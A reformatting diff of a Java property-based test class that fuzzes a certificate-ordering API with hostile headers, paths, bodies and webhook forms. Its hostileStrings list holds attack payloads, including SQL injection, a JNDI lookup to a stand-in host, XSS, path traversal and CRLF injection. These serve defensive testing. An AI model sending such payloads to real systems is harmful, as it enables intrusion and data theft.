@@ -15,13 +15,6 @@ import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.Base64;
 import java.util.List;
-import nl.certflow.ApiClient;
-import nl.certflow.ApiClient.Response;
-import nl.certflow.CertflowApplication;
-import nl.certflow.RawHttp;
-import nl.certflow.RawHttp.Answer;
-import nl.certflow.TestCsrs;
-import nl.certflow.TestOrders;
 import net.jqwik.api.Arbitraries;
 import net.jqwik.api.Arbitrary;
 import net.jqwik.api.Combinators;
@@ -31,6 +24,13 @@ import net.jqwik.api.Property;
 import net.jqwik.api.Provide;
 import net.jqwik.api.lifecycle.AfterContainer;
 import net.jqwik.api.lifecycle.BeforeContainer;
+import nl.certflow.ApiClient;
+import nl.certflow.ApiClient.Response;
+import nl.certflow.CertflowApplication;
+import nl.certflow.RawHttp;
+import nl.certflow.RawHttp.Answer;
+import nl.certflow.TestCsrs;
+import nl.certflow.TestOrders;
 import org.springframework.boot.builder.SpringApplicationBuilder;
 import org.springframework.context.ConfigurableApplicationContext;
 import org.springframework.jdbc.core.JdbcTemplate;
@@ -56,7 +56,9 @@ class HostileInputTest {
 
     @BeforeContainer
     static void start() {
-        app = new SpringApplicationBuilder(CertflowApplication.class).profiles("test").run("--server.port=0");
+        app = new SpringApplicationBuilder(CertflowApplication.class)
+                .profiles("test")
+                .run("--server.port=0");
         int port = app.getEnvironment().getRequiredProperty("local.server.port", Integer.class);
         api = new ApiClient(port);
         raw = new RawHttp(port);
@@ -94,7 +96,8 @@ class HostileInputTest {
     }
 
     @Property
-    void cancelWithAHostileBodyIsRejectedWithoutTrace(@ForAll("hostileValues") JsonNode reason, @ForAll boolean wrapped) {
+    void cancelWithAHostileBodyIsRejectedWithoutTrace(
+            @ForAll("hostileValues") JsonNode reason, @ForAll boolean wrapped) {
         String id = openOrder();
         String before = order(id);
         String body = wrapped ? NODES.objectNode().set("reason", reason).toString() : reason.toString();
@@ -107,15 +110,18 @@ class HostileInputTest {
     }
 
     @Property
-    void hostilePathsAndQueriesAreRejectedWithoutTrace(@ForAll("hostileStrings") String id,
-            @ForAll("hostileStrings") String status, @ForAll("hostileStrings") String page,
+    void hostilePathsAndQueriesAreRejectedWithoutTrace(
+            @ForAll("hostileStrings") String id,
+            @ForAll("hostileStrings") String status,
+            @ForAll("hostileStrings") String page,
             @ForAll("methodsAndPaths") String methodAndPath) {
         long orders = count("cf_order");
         long history = count("cf_order_history");
         String[] parts = methodAndPath.split(" ", 2);
         String path = parts[1].replace("{id}", pathSegment(id)) + "?status=" + query(status) + "&page=" + query(page)
                 + "&size=" + query(id);
-        Response response = api.send(api.request("alice", "alice-secret", path).header("Content-Type", "application/json")
+        Response response = api.send(api.request("alice", "alice-secret", path)
+                .header("Content-Type", "application/json")
                 .method(parts[0], HttpRequest.BodyPublishers.ofString("{}")));
 
         assertThat(response.status()).as(path + " " + response.body()).isBetween(400, 499);
@@ -125,15 +131,22 @@ class HostileInputTest {
     }
 
     @Property
-    void hostileHeadersNeverCauseA5xx(@ForAll("headerValues") String contentType, @ForAll("headerValues") String accept,
-            @ForAll("headerValues") String authorization, @ForAll("headerValues") String forwardedFor,
+    void hostileHeadersNeverCauseA5xx(
+            @ForAll("headerValues") String contentType,
+            @ForAll("headerValues") String accept,
+            @ForAll("headerValues") String authorization,
+            @ForAll("headerValues") String forwardedFor,
             @ForAll("methodsAndPaths") String methodAndPath) {
         long orders = count("cf_order");
         String[] parts = methodAndPath.split(" ", 2);
         Response response = api.send(api.request(null, null, parts[1].replace("{id}", "x"))
-                .header("Content-Type", contentType).header("Accept", accept).header("Authorization", authorization)
+                .header("Content-Type", contentType)
+                .header("Accept", accept)
+                .header("Authorization", authorization)
                 .header("X-Forwarded-For", forwardedFor)
-                .method(parts[0], HttpRequest.BodyPublishers.ofString(TestOrders.dv(CN).toString())));
+                .method(
+                        parts[0],
+                        HttpRequest.BodyPublishers.ofString(TestOrders.dv(CN).toString())));
 
         assertThat(response.status()).as(response.body()).isBetween(400, 499);
         assertThat(count("cf_order")).isEqualTo(orders);
@@ -142,7 +155,8 @@ class HostileInputTest {
     @Property
     void hostileWebhookFormIsRejectedOrStoredOnce(@ForAll("hostileForms") String form, @ForAll boolean asGet) {
         long pushes = count("cf_ca_push");
-        Response response = asGet ? api.get("sectigo", "push-secret", "/webhooks/sectigo?" + form)
+        Response response = asGet
+                ? api.get("sectigo", "push-secret", "/webhooks/sectigo?" + form)
                 : api.form("sectigo", "push-secret", "/webhooks/sectigo", form);
         if (response.status() == 200) {
             assertThat(response.body()).isIn("OK", "OK duplicate");
@@ -154,11 +168,12 @@ class HostileInputTest {
     }
 
     @Property
-    void hostileWebhookParameterNamesAreRejectedOrStoredOnce(@ForAll("hostileStrings") String name,
-            @ForAll("hostileStrings") String value, @ForAll boolean asGet) {
+    void hostileWebhookParameterNamesAreRejectedOrStoredOnce(
+            @ForAll("hostileStrings") String name, @ForAll("hostileStrings") String value, @ForAll boolean asGet) {
         long pushes = count("cf_ca_push");
         String form = "orderNumber=1&statusCode=12&" + query(name) + "=" + query(value);
-        Response response = asGet ? api.get("sectigo", "push-secret", "/webhooks/sectigo?" + form)
+        Response response = asGet
+                ? api.get("sectigo", "push-secret", "/webhooks/sectigo?" + form)
                 : api.form("sectigo", "push-secret", "/webhooks/sectigo", form);
         if (response.status() == 200) {
             assertThat(count("cf_ca_push")).isLessThanOrEqualTo(pushes + 1);
@@ -169,11 +184,14 @@ class HostileInputTest {
     }
 
     @Property
-    void cancelWithDuplicateKeysIsRejectedWithoutTrace(@ForAll("hostileValues") JsonNode first,
-            @ForAll("hostileValues") JsonNode second) {
+    void cancelWithDuplicateKeysIsRejectedWithoutTrace(
+            @ForAll("hostileValues") JsonNode first, @ForAll("hostileValues") JsonNode second) {
         String id = openOrder();
         String before = order(id);
-        Response response = api.post("alice", "alice-secret", "/api/orders/" + id + "/cancel",
+        Response response = api.post(
+                "alice",
+                "alice-secret",
+                "/api/orders/" + id + "/cancel",
                 "{\"reason\":" + first + ",\"reason\":" + second + "}");
 
         assertProblem(response); // 400, or 413 for values over the size cap
@@ -182,17 +200,29 @@ class HostileInputTest {
 
     /** Any method, any content type, with or without valid credentials, on every door: a 4xx problem or a success. */
     @Property
-    void hostileMethodsAndContentTypesAreProblems(@ForAll("methods") String method, @ForAll("contentTypes") String contentType,
-            @ForAll("accepts") String accept, @ForAll("doors") String path, @ForAll boolean authenticated,
+    void hostileMethodsAndContentTypesAreProblems(
+            @ForAll("methods") String method,
+            @ForAll("contentTypes") String contentType,
+            @ForAll("accepts") String accept,
+            @ForAll("doors") String path,
+            @ForAll boolean authenticated,
             @ForAll boolean withBody) {
         long orders = count("cf_order");
         long pushes = count("cf_ca_push");
-        String credentials = !authenticated ? "" : path.startsWith("/webhooks") ? RawHttp.basic("sectigo", "push-secret")
-                : RawHttp.basic("alice", "alice-secret");
-        Answer answer = raw.send(method, path, credentials + "Content-Type: " + contentType + "\r\nAccept: " + accept + "\r\n",
+        String credentials = !authenticated
+                ? ""
+                : path.startsWith("/webhooks")
+                        ? RawHttp.basic("sectigo", "push-secret")
+                        : RawHttp.basic("alice", "alice-secret");
+        Answer answer = raw.send(
+                method,
+                path,
+                credentials + "Content-Type: " + contentType + "\r\nAccept: " + accept + "\r\n",
                 withBody ? "orderNumber=1&statusCode=12" : null);
 
-        assertThat(answer.status()).as(method + " " + path + " " + contentType + ": " + answer.body()).isLessThan(500);
+        assertThat(answer.status())
+                .as(method + " " + path + " " + contentType + ": " + answer.body())
+                .isLessThan(500);
         if (answer.status() >= 400 && !method.equals("HEAD")) { // a HEAD answer has no body
             assertRawProblem(answer, answer.status());
         }
@@ -205,16 +235,30 @@ class HostileInputTest {
     @Example
     void multipartWithoutAValidBoundaryIsAnsweredAsIfItWereNotMultipart() {
         long pushes = count("cf_ca_push");
-        for (String contentType : List.of("multipart/form-data", "multipart/form-data; boundary=",
-                "multipart/form-data; boundary=x", "multipart/mixed")) {
+        for (String contentType : List.of(
+                "multipart/form-data",
+                "multipart/form-data; boundary=",
+                "multipart/form-data; boundary=x",
+                "multipart/mixed")) {
             String header = "Content-Type: " + contentType + "\r\n";
             Answer list = raw.send("GET", "/api/orders", RawHttp.basic("alice", "alice-secret") + header, null);
             assertThat(list.status()).as(list.body()).isEqualTo(200);
-            assertRawProblem(raw.send("POST", "/api/orders", RawHttp.basic("alice", "alice-secret") + header, "--x\r\n"), 415);
-            assertRawProblem(raw.send("GET", "/webhooks/sectigo?statusCode=12",
-                    RawHttp.basic("sectigo", "push-secret") + header, null), 400);
-            assertRawProblem(raw.send("POST", "/webhooks/sectigo", RawHttp.basic("sectigo", "push-secret") + header,
-                    "orderNumber=1&statusCode=12"), 400);
+            assertRawProblem(
+                    raw.send("POST", "/api/orders", RawHttp.basic("alice", "alice-secret") + header, "--x\r\n"), 415);
+            assertRawProblem(
+                    raw.send(
+                            "GET",
+                            "/webhooks/sectigo?statusCode=12",
+                            RawHttp.basic("sectigo", "push-secret") + header,
+                            null),
+                    400);
+            assertRawProblem(
+                    raw.send(
+                            "POST",
+                            "/webhooks/sectigo",
+                            RawHttp.basic("sectigo", "push-secret") + header,
+                            "orderNumber=1&statusCode=12"),
+                    400);
         }
         assertThat(count("cf_ca_push")).isEqualTo(pushes);
     }
@@ -234,7 +278,9 @@ class HostileInputTest {
     void duplicateKeysInACancelAreABadRequest() {
         String id = openOrder();
         String before = order(id);
-        for (String body : List.of("{\"reason\":90.5,\"reason\":\"a\\u0000b\"}", "{\"reason\":\"1e309\",\"reason\":[1,2]}",
+        for (String body : List.of(
+                "{\"reason\":90.5,\"reason\":\"a\\u0000b\"}",
+                "{\"reason\":\"1e309\",\"reason\":[1,2]}",
                 "{\"reason\":\"a\",\"reason\":\"b\"}")) {
             assertProblem(api.post("alice", "alice-secret", "/api/orders/" + id + "/cancel", body), 400);
         }
@@ -254,14 +300,22 @@ class HostileInputTest {
     @Example
     void requestsTomcatRefusesBeforeCertflowAreProblems() {
         String auth = RawHttp.basic("alice", "alice-secret");
-        for (String target : List.of("/api/orders/x%00", "/api/orders/x%2fy", "/api/orders/x%5cy", "/api/orders/x%ff",
-                "/api/orders/x%", "/api/orders/%C3%28", "/api/orders/" + "a".repeat(9_000), "/api/orders/x\u0001")) {
+        for (String target : List.of(
+                "/api/orders/x%00",
+                "/api/orders/x%2fy",
+                "/api/orders/x%5cy",
+                "/api/orders/x%ff",
+                "/api/orders/x%",
+                "/api/orders/%C3%28",
+                "/api/orders/" + "a".repeat(9_000),
+                "/api/orders/x\u0001")) {
             assertRawProblem(raw.send("GET", target, auth, null), 400);
         }
         assertRawProblem(raw.send("GET", "/api/orders", auth + "X-Test: a\u0001b\r\n", null), 400);
         assertRawProblem(raw.send("GET", "/api/orders", auth + "X-Big: " + "a".repeat(9_000) + "\r\n", null), 4);
-        assertRawProblem(raw.send("POST", "/api/orders", auth + "Expect: 200-ok\r\nContent-Type: application/json\r\n",
-                "{}"), 417);
+        assertRawProblem(
+                raw.send("POST", "/api/orders", auth + "Expect: 200-ok\r\nContent-Type: application/json\r\n", "{}"),
+                417);
     }
 
     @Example
@@ -271,20 +325,29 @@ class HostileInputTest {
         assertRawProblem(raw.send("DELETE", "/api/orders/x", auth + html, null), 405);
         assertRawProblem(raw.send("GET", "/api/orders/x", auth + html, null), 406);
         assertRawProblem(raw.send("POST", "/api/orders", auth + html + "Content-Type: text/plain\r\n", "hello"), 415);
-        assertRawProblem(raw.send("PUT", "/webhooks/sectigo", RawHttp.basic("sectigo", "push-secret") + "Accept: text/plain\r\n",
-                null), 405);
+        assertRawProblem(
+                raw.send(
+                        "PUT",
+                        "/webhooks/sectigo",
+                        RawHttp.basic("sectigo", "push-secret") + "Accept: text/plain\r\n",
+                        null),
+                405);
         assertRawProblem(raw.send("GET", "/api/orders/does-not-exist", auth + "Accept: application/xml\r\n", null), 4);
     }
 
     @Example
     void anUnknownFieldIsNamed() {
-        Response create = api.post("alice", "alice-secret", "/api/orders", TestOrders.dv(CN).put("csr", VALID_CSR)
-                .put("price", 10).toString());
+        Response create = api.post(
+                "alice",
+                "alice-secret",
+                "/api/orders",
+                TestOrders.dv(CN).put("csr", VALID_CSR).put("price", 10).toString());
         assertProblem(create, 400);
         assertThat(create.json().get("errors").findValuesAsText("field")).containsExactly("price");
 
         String id = openOrder();
-        Response patch = api.patch("alice", "alice-secret", "/api/orders/" + id, "{\"requester\":{\"name\":\"A\",\"fax\":\"1\"}}");
+        Response patch = api.patch(
+                "alice", "alice-secret", "/api/orders/" + id, "{\"requester\":{\"name\":\"A\",\"fax\":\"1\"}}");
         assertProblem(patch, 400);
         assertThat(patch.json().get("errors").findValuesAsText("field")).containsExactly("requester.fax");
     }
@@ -294,18 +357,30 @@ class HostileInputTest {
         String id = openOrder();
         String before = order(id);
         for (String reason : List.of("false", "90.5", "7")) {
-            Response cancel = api.post("alice", "alice-secret", "/api/orders/" + id + "/cancel", "{\"reason\":" + reason + "}");
+            Response cancel =
+                    api.post("alice", "alice-secret", "/api/orders/" + id + "/cancel", "{\"reason\":" + reason + "}");
             assertProblem(cancel, 400);
             assertThat(cancel.json().get("errors").findValuesAsText("field")).containsExactly("reason");
         }
         assertThat(order(id)).isEqualTo(before);
 
-        Response create = api.post("alice", "alice-secret", "/api/orders", TestOrders.dv(CN).put("csr", VALID_CSR)
-                .put("commonName", true).toString());
+        Response create = api.post(
+                "alice",
+                "alice-secret",
+                "/api/orders",
+                TestOrders.dv(CN).put("csr", VALID_CSR).put("commonName", true).toString());
         assertProblem(create, 400);
         assertThat(create.json().get("errors").findValuesAsText("field")).containsExactly("commonName");
-        Response sans = api.post("alice", "alice-secret", "/api/orders", TestOrders.dv(CN).put("csr", VALID_CSR)
-                .set("subjectAlternativeNames", NODES.arrayNode().add("www." + CN).add(5)).toString());
+        Response sans = api.post(
+                "alice",
+                "alice-secret",
+                "/api/orders",
+                TestOrders.dv(CN)
+                        .put("csr", VALID_CSR)
+                        .set(
+                                "subjectAlternativeNames",
+                                NODES.arrayNode().add("www." + CN).add(5))
+                        .toString());
         assertProblem(sans, 400);
         assertThat(sans.json().get("errors").findValuesAsText("field")).containsExactly("subjectAlternativeNames[1]");
     }
@@ -323,17 +398,24 @@ class HostileInputTest {
     void oversizedBodiesAre413ProblemsAndStoreNothing() {
         long orders = count("cf_order");
         long pushes = count("cf_ca_push");
-        String hugeOrder = TestOrders.dv(CN).put("commonName", "a".repeat(MAX_BODY)).toString();
+        String hugeOrder =
+                TestOrders.dv(CN).put("commonName", "a".repeat(MAX_BODY)).toString();
         String hugeForm = "orderNumber=1&statusCode=6&statusDesc=" + "a".repeat(MAX_BODY);
 
         assertProblem(api.post("alice", "alice-secret", "/api/orders", hugeOrder), 413);
-        assertProblem(api.send(api.request("alice", "alice-secret", "/api/orders").header("Content-Type", "application/json")
-                .POST(chunked(hugeOrder))), 413);
+        assertProblem(
+                api.send(api.request("alice", "alice-secret", "/api/orders")
+                        .header("Content-Type", "application/json")
+                        .POST(chunked(hugeOrder))),
+                413);
         assertProblem(api.form("sectigo", "push-secret", "/webhooks/sectigo", hugeForm), 413);
         assertProblem(api.post(null, null, "/api/orders", hugeOrder), 413);
         Response chunkedForm = api.send(api.request("sectigo", "push-secret", "/webhooks/sectigo")
-                .header("Content-Type", "application/x-www-form-urlencoded").POST(chunked(hugeForm)));
-        assertThat(chunkedForm.status()).as("Tomcat's form cap; the fields it dropped make it malformed").isEqualTo(400);
+                .header("Content-Type", "application/x-www-form-urlencoded")
+                .POST(chunked(hugeForm)));
+        assertThat(chunkedForm.status())
+                .as("Tomcat's form cap; the fields it dropped make it malformed")
+                .isEqualTo(400);
 
         assertThat(count("cf_order")).isEqualTo(orders);
         assertThat(count("cf_ca_push")).isEqualTo(pushes);
@@ -341,8 +423,11 @@ class HostileInputTest {
 
     @Example
     void bodiesJustUnderTheCapAreRead() {
-        String body = TestOrders.dv(CN).put("commonName", "a".repeat(MAX_BODY - 2_000)).toString();
-        Response response = api.send(api.request("alice", "alice-secret", "/api/orders").header("Content-Type", "application/json")
+        String body = TestOrders.dv(CN)
+                .put("commonName", "a".repeat(MAX_BODY - 2_000))
+                .toString();
+        Response response = api.send(api.request("alice", "alice-secret", "/api/orders")
+                .header("Content-Type", "application/json")
                 .POST(chunked(body)));
         assertProblem(response, 400);
         assertThat(response.json().get("errors").findValuesAsText("field")).contains("commonName");
@@ -355,10 +440,31 @@ class HostileInputTest {
         return Arbitraries.oneOf(
                 Arbitraries.strings().all().ofMaxLength(40),
                 Arbitraries.strings().withCharRange('a', 'z').ofMinLength(1_000).ofMaxLength(MAX_BODY + 1_000),
-                Arbitraries.of("' OR '1'='1", "'; DROP TABLE cf_order; --", "${jndi:ldap://evil.example/a}", "#{7*7}",
-                        "<script>alert(1)</script>", "../../../etc/passwd", "%00", "\u0000", "\r\nX-Injected: 1", "",
-                        " ", "null", "-1", "2147483648", "1e309", "NaN", "ＷＷＷ.example.com", "é.example.nl",
-                        "xn--.example", "\u202Emoc.elpmaxe", "😀.example.com", "*.*.example.com", "a..b", "."),
+                Arbitraries.of(
+                        "' OR '1'='1",
+                        "'; DROP TABLE cf_order; --",
+                        "${jndi:ldap://evil.example/a}",
+                        "#{7*7}",
+                        "<script>alert(1)</script>",
+                        "../../../etc/passwd",
+                        "%00",
+                        "\u0000",
+                        "\r\nX-Injected: 1",
+                        "",
+                        " ",
+                        "null",
+                        "-1",
+                        "2147483648",
+                        "1e309",
+                        "NaN",
+                        "ＷＷＷ.example.com",
+                        "é.example.nl",
+                        "xn--.example",
+                        "\u202Emoc.elpmaxe",
+                        "😀.example.com",
+                        "*.*.example.com",
+                        "a..b",
+                        "."),
                 Arbitraries.of(brokenPems()));
     }
 
@@ -366,9 +472,15 @@ class HostileInputTest {
     Arbitrary<JsonNode> hostileValues() {
         return Arbitraries.oneOf(
                 hostileStrings().map(NODES::textNode),
-                Arbitraries.of(NODES.nullNode(), NODES.booleanNode(true), NODES.numberNode(Long.MAX_VALUE),
-                        NODES.numberNode(-1), NODES.numberNode(0.5), NODES.numberNode(new BigInteger("9".repeat(400))),
-                        NODES.objectNode(), NODES.arrayNode()),
+                Arbitraries.of(
+                        NODES.nullNode(),
+                        NODES.booleanNode(true),
+                        NODES.numberNode(Long.MAX_VALUE),
+                        NODES.numberNode(-1),
+                        NODES.numberNode(0.5),
+                        NODES.numberNode(new BigInteger("9".repeat(400))),
+                        NODES.objectNode(),
+                        NODES.arrayNode()),
                 hostileStrings().list().ofMaxSize(3).map(values -> {
                     ArrayNode array = NODES.arrayNode();
                     values.forEach(array::add);
@@ -379,21 +491,57 @@ class HostileInputTest {
 
     @Provide
     Arbitrary<String> hostileOrders() {
-        return mutations(List.of("validation", "commonName", "subjectAlternativeNames", "csr", "validityDays", "requester",
-                "requester.name", "requester.email", "requester.phone", "company", "company.name", "company.kvkNumber",
-                "company.country", "company.street", "company.postalCode", "company.city", "extra"), true);
+        return mutations(
+                List.of(
+                        "validation",
+                        "commonName",
+                        "subjectAlternativeNames",
+                        "csr",
+                        "validityDays",
+                        "requester",
+                        "requester.name",
+                        "requester.email",
+                        "requester.phone",
+                        "company",
+                        "company.name",
+                        "company.kvkNumber",
+                        "company.country",
+                        "company.street",
+                        "company.postalCode",
+                        "company.city",
+                        "extra"),
+                true);
     }
 
     @Provide
     Arbitrary<String> hostilePatches() {
-        return mutations(List.of("csr", "subjectAlternativeNames", "requester", "requester.name", "requester.email",
-                "requester.phone", "company", "company.name", "company.kvkNumber", "company.country", "extra", "validation"), false);
+        return mutations(
+                List.of(
+                        "csr",
+                        "subjectAlternativeNames",
+                        "requester",
+                        "requester.name",
+                        "requester.email",
+                        "requester.phone",
+                        "company",
+                        "company.name",
+                        "company.kvkNumber",
+                        "company.country",
+                        "extra",
+                        "validation"),
+                false);
     }
 
     @Provide
     Arbitrary<String> methodsAndPaths() {
-        return Arbitraries.of("GET /api/orders/{id}", "PATCH /api/orders/{id}", "POST /api/orders/{id}/submit",
-                "POST /api/orders/{id}/cancel", "GET /api/orders", "DELETE /api/orders/{id}", "PUT /api/orders/{id}",
+        return Arbitraries.of(
+                "GET /api/orders/{id}",
+                "PATCH /api/orders/{id}",
+                "POST /api/orders/{id}/submit",
+                "POST /api/orders/{id}/cancel",
+                "GET /api/orders",
+                "DELETE /api/orders/{id}",
+                "PUT /api/orders/{id}",
                 "POST /api/orders/{id}/unknown");
     }
 
@@ -401,59 +549,126 @@ class HostileInputTest {
     Arbitrary<String> headerValues() {
         return Arbitraries.oneOf(
                 Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(60),
-                Arbitraries.of("application/json", "application/json; charset=ISO-8859-1", "application/xml", "text/plain",
-                        "multipart/form-data; boundary=x", "*/*", "Basic", "Basic !!!", "Basic " + base64("alice"),
-                        "Basic " + base64("alice:"), "Basic " + base64(":alice-secret"), "Bearer x.y.z",
-                        "Digest username=alice", "127.0.0.1, 10.0.0.1", "unknown", "::1", "999.999.999.999"));
+                Arbitraries.of(
+                        "application/json",
+                        "application/json; charset=ISO-8859-1",
+                        "application/xml",
+                        "text/plain",
+                        "multipart/form-data; boundary=x",
+                        "*/*",
+                        "Basic",
+                        "Basic !!!",
+                        "Basic " + base64("alice"),
+                        "Basic " + base64("alice:"),
+                        "Basic " + base64(":alice-secret"),
+                        "Bearer x.y.z",
+                        "Digest username=alice",
+                        "127.0.0.1, 10.0.0.1",
+                        "unknown",
+                        "::1",
+                        "999.999.999.999"));
     }
 
     @Provide
     Arbitrary<String> hostileForms() {
-        Arbitrary<String> field = Arbitraries.of("orderNumber", "certificateID", "eventType", "status", "statusCode",
-                "statusDesc", "certificate", "caCertificate", "revocationReasonCode", "unknown");
-        Arbitrary<String> value = Arbitraries.oneOf(hostileStrings(), Arbitraries.of("6", "7", "8", "12", "14", "0",
-                "-1", "12345678", "abc-_09"));
+        Arbitrary<String> field = Arbitraries.of(
+                "orderNumber",
+                "certificateID",
+                "eventType",
+                "status",
+                "statusCode",
+                "statusDesc",
+                "certificate",
+                "caCertificate",
+                "revocationReasonCode",
+                "unknown");
+        Arbitrary<String> value = Arbitraries.oneOf(
+                hostileStrings(), Arbitraries.of("6", "7", "8", "12", "14", "0", "-1", "12345678", "abc-_09"));
         Arbitrary<String> pair = Combinators.combine(field, value).as((name, v) -> name + "=" + query(v));
         return pair.list().ofMaxSize(8).map(pairs -> String.join("&", pairs));
     }
 
     @Provide
     Arbitrary<String> methods() {
-        return Arbitraries.oneOf(Arbitraries.of("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE",
-                "CONNECT", "PROPFIND", "MKCOL"), Arbitraries.strings().withCharRange('A', 'Z').ofMinLength(1).ofMaxLength(12));
+        return Arbitraries.oneOf(
+                Arbitraries.of(
+                        "GET",
+                        "HEAD",
+                        "POST",
+                        "PUT",
+                        "PATCH",
+                        "DELETE",
+                        "OPTIONS",
+                        "TRACE",
+                        "CONNECT",
+                        "PROPFIND",
+                        "MKCOL"),
+                Arbitraries.strings().withCharRange('A', 'Z').ofMinLength(1).ofMaxLength(12));
     }
 
     @Provide
     Arbitrary<String> contentTypes() {
-        return Arbitraries.oneOf(Arbitraries.of("multipart/form-data", "multipart/form-data; boundary=",
-                "multipart/form-data; boundary=x", "multipart/mixed; boundary=\"\"", "application/x-www-form-urlencoded",
-                "application/x-www-form-urlencoded; charset=x-unknown", "application/json", "application/json; charset=UTF-7",
-                "application/problem+json", "text/plain", "*/*", "application/*", "", ";", "a/b/c", "multipart/"),
+        return Arbitraries.oneOf(
+                Arbitraries.of(
+                        "multipart/form-data",
+                        "multipart/form-data; boundary=",
+                        "multipart/form-data; boundary=x",
+                        "multipart/mixed; boundary=\"\"",
+                        "application/x-www-form-urlencoded",
+                        "application/x-www-form-urlencoded; charset=x-unknown",
+                        "application/json",
+                        "application/json; charset=UTF-7",
+                        "application/problem+json",
+                        "text/plain",
+                        "*/*",
+                        "application/*",
+                        "",
+                        ";",
+                        "a/b/c",
+                        "multipart/"),
                 Arbitraries.strings().withCharRange('!', '~').ofMaxLength(40));
     }
 
     @Provide
     Arbitrary<String> accepts() {
-        return Arbitraries.oneOf(Arbitraries.of("*/*", "text/html", "text/plain", "application/xml", "application/json",
-                "application/problem+json", "image/png;q=0.5", "text/*", ""),
+        return Arbitraries.oneOf(
+                Arbitraries.of(
+                        "*/*",
+                        "text/html",
+                        "text/plain",
+                        "application/xml",
+                        "application/json",
+                        "application/problem+json",
+                        "image/png;q=0.5",
+                        "text/*",
+                        ""),
                 Arbitraries.strings().withCharRange('!', '~').ofMaxLength(30));
     }
 
     @Provide
     Arbitrary<String> doors() {
-        return Arbitraries.of("/api/orders", "/api/orders/x", "/api/orders/x/submit", "/api/orders/x/cancel",
-                "/webhooks/sectigo", "/webhooks/sectigo?orderNumber=1&statusCode=12", "/api/unknown", "/error");
+        return Arbitraries.of(
+                "/api/orders",
+                "/api/orders/x",
+                "/api/orders/x/submit",
+                "/api/orders/x/cancel",
+                "/webhooks/sectigo",
+                "/webhooks/sectigo?orderNumber=1&statusCode=12",
+                "/api/unknown",
+                "/error");
     }
 
     // ------------------------------------------------------------------ helpers
 
     private Arbitrary<String> mutations(List<String> fields, boolean create) {
-        Arbitrary<Change> mutation = Combinators.combine(Arbitraries.of(fields),
-                Arbitraries.oneOf(hostileValues(), Arbitraries.just((JsonNode) null)))
+        Arbitrary<Change> mutation = Combinators.combine(
+                        Arbitraries.of(fields), Arbitraries.oneOf(hostileValues(), Arbitraries.just((JsonNode) null)))
                 .as(Change::new);
         return mutation.list().ofMinSize(1).ofMaxSize(3).map(changes -> {
-            ObjectNode order = create ? TestOrders.dv(CN).put("csr", VALID_CSR)
-                    : (ObjectNode) NODES.objectNode().set("requester", TestOrders.dv(CN).get("requester"));
+            ObjectNode order = create
+                    ? TestOrders.dv(CN).put("csr", VALID_CSR)
+                    : (ObjectNode) NODES.objectNode()
+                            .set("requester", TestOrders.dv(CN).get("requester"));
             order.set("company", TestOrders.company("Test BV Donald", "68750110"));
             for (Change change : changes) {
                 String[] path = change.field().split("\\.");
@@ -476,8 +691,7 @@ class HostileInputTest {
     }
 
     /** Replace a field by a value, or remove it ({@code value} null). */
-    private record Change(String field, JsonNode value) {
-    }
+    private record Change(String field, JsonNode value) {}
 
     private static List<String> brokenPems() {
         String valid = VALID_CSR;
@@ -487,7 +701,8 @@ class HostileInputTest {
         pems.add(valid.replaceFirst("[A-Za-z]", "!"));
         pems.add(valid.substring(0, 80) + "AAAA" + valid.substring(84));
         pems.add("-----BEGIN CERTIFICATE REQUEST-----\n-----END CERTIFICATE REQUEST-----\n");
-        pems.add("-----BEGIN CERTIFICATE REQUEST-----\n" + "QUFB".repeat(3000) + "\n-----END CERTIFICATE REQUEST-----\n");
+        pems.add("-----BEGIN CERTIFICATE REQUEST-----\n" + "QUFB".repeat(3000)
+                + "\n-----END CERTIFICATE REQUEST-----\n");
         pems.add("-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----\n");
         pems.add(valid + valid);
         pems.add(TestCsrs.ec("other.example.com"));
@@ -503,7 +718,11 @@ class HostileInputTest {
     }
 
     private static String openOrder() {
-        Response created = api.post("alice", "alice-secret", "/api/orders", TestOrders.dv(CN).put("csr", VALID_CSR).toString());
+        Response created = api.post(
+                "alice",
+                "alice-secret",
+                "/api/orders",
+                TestOrders.dv(CN).put("csr", VALID_CSR).toString());
         assertThat(created.status()).as(created.body()).isEqualTo(201);
         return created.id();
     }
@@ -535,7 +754,9 @@ class HostileInputTest {
         } else {
             assertThat(answer.status()).as(answer.body()).isEqualTo(status);
         }
-        assertThat(answer.contentType()).as(answer.status() + " " + answer.body()).startsWith("application/problem+json");
+        assertThat(answer.contentType())
+                .as(answer.status() + " " + answer.body())
+                .startsWith("application/problem+json");
         assertThat(answer.body()).contains("\"status\":" + answer.status());
     }
 
